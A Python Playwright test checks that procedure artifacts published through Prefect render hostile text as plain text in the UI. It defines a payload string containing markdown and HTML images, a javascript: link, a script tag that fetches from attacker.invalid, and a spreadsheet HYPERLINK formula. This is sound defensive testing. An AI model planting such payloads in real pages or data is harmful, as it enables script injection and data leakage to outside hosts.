"""Text from a procedure file stays text in the real Prefect UI (issue 13): a procedure
whose name and changes carry markdown images, raw HTML, script and `javascript:` links
is published as the flows publish it, and its artifact pages, opened in headless
Chromium, request nothing from the attacker's host, run nothing and link nowhere."""

from __future__ import annotations

from pathlib import Path

import pytest
from playwright.sync_api import Browser, Dialog, Page, Request, expect
from prefect import flow
from prefect.client.orchestration import get_client
from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterKey

from analysis.result import AnalysisResult
from diagrams.figures import diagram_files
from flows.artifacts import artifact_key, publish_procedure, publish_table
from models.measures import Measures
from publishing.site import SiteEntry
from rules import Change
from tests.conftest import CHROMIUM
from tthc.serve import Stack

pytestmark = [
    pytest.mark.prefect,
    pytest.mark.browser,
    pytest.mark.skipif(not Path(CHROMIUM).exists(), reason="Debian's chromium not installed"),
]

ATTACKER = "attacker.invalid"
HOSTILE = (
    f"Khai sinh ![p](http://{ATTACKER}/md.png) <img src='http://{ATTACKER}/html.png'> "
    f"[bấm](javascript:alert(1)) <script>fetch('http://{ATTACKER}/js')</script> "
    f"<a href='http://{ATTACKER}/a'>xem</a> =HYPERLINK(\"http://{ATTACKER}\")"
)
CODE = "9.999999"
TABLE_KEY = "hostile-table"
SVG = (
    b'<?xml version="1.0"?>\n<svg width="40pt" height="20pt" viewBox="0 0 40 20" '
    b'xmlns="http://www.w3.org/2000/svg"><rect width="40" height="20" fill="#ccc"/></svg>'
)
MEASURES = Measures(
    steps=10, handoffs=6, visits=3, documents=5, lead_time_days=1.29, value_added_share=0.29,
    cost_per_dossier_vnd=709_442, cost_per_year_vnd=6_384_978_000, full_online=False,
    online_payment=False, electronic_result=False, documents_reused=0, critical_path=[HOSTILE],
)  # fmt: skip


@flow(name="hostile-artifact")
def publish_hostile() -> None:
    result = AnalysisResult(
        code=CODE,
        name=HOSTILE,
        essential=None,
        rules_signature="7:",
        before=MEASURES,
        after=MEASURES,
        changes=(Change("DO01", ("s",), HOSTILE, HOSTILE),),
    )
    entry = SiteEntry(result, diagram_files(CODE, result.essential))
    publish_procedure(entry, SVG, SVG, 200)
    publish_table([entry], key=TABLE_KEY)


def _artifact_id(key: str) -> str:
    with get_client(sync_client=True) as client:
        (artifact,) = client.read_artifacts(
            artifact_filter=ArtifactFilter(key=ArtifactFilterKey(any_=[key])), limit=1
        )
    return str(artifact.id)


def _watch(page: Page, url: str) -> tuple[list[str], list[str]]:
    """Open `url`; return the requests to the attacker's host and the dialogs opened."""
    requested: list[str] = []
    dialogs: list[str] = []

    def on_request(request: Request) -> None:
        if ATTACKER in request.url:
            requested.append(request.url)

    def on_dialog(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("request", on_request)
    page.on("dialog", on_dialog)
    page.goto(url, wait_until="networkidle")
    return requested, dialogs


def test_hostile_text_in_artifacts_is_shown_as_text_and_requests_nothing(
    stack: Stack, browser: Browser, shots: Path
) -> None:
    publish_hostile()
    for key, shot in ((artifact_key(CODE), "procedure"), (TABLE_KEY, "table")):
        page = browser.new_page(viewport={"width": 1400, "height": 1000})
        page.set_default_timeout(30_000)
        url = f"{stack.ui_url}/v2/artifacts/artifact/{_artifact_id(key)}"
        requested, dialogs = _watch(page, url)
        expect(page.get_by_text("Khai sinh").first).to_be_visible()
        page.wait_for_timeout(2_000)  # time for any late image or script to fire
        shown = page.inner_text("body").replace("\u2060", "")  # the word joiners
        assert f"<img src='http://{ATTACKER}/html.png'>" in shown
        assert "[bấm](javascript:alert(1))" in shown
        page.screenshot(path=str(shots / f"hostile-{shot}.png"), full_page=True)
        assert requested == [] and dialogs == []
        links = page.eval_on_selector_all(
            "a[href]", "links => links.map(a => a.getAttribute('href'))"
        )
        assert not [link for link in links if ATTACKER in link or "javascript:" in link]
        assert page.locator(f"img[src*='{ATTACKER}']").count() == 0
        assert not page.evaluate(
            "host => [...document.scripts].some(s => s.textContent.includes(host))", ATTACKER
        )
        page.close()
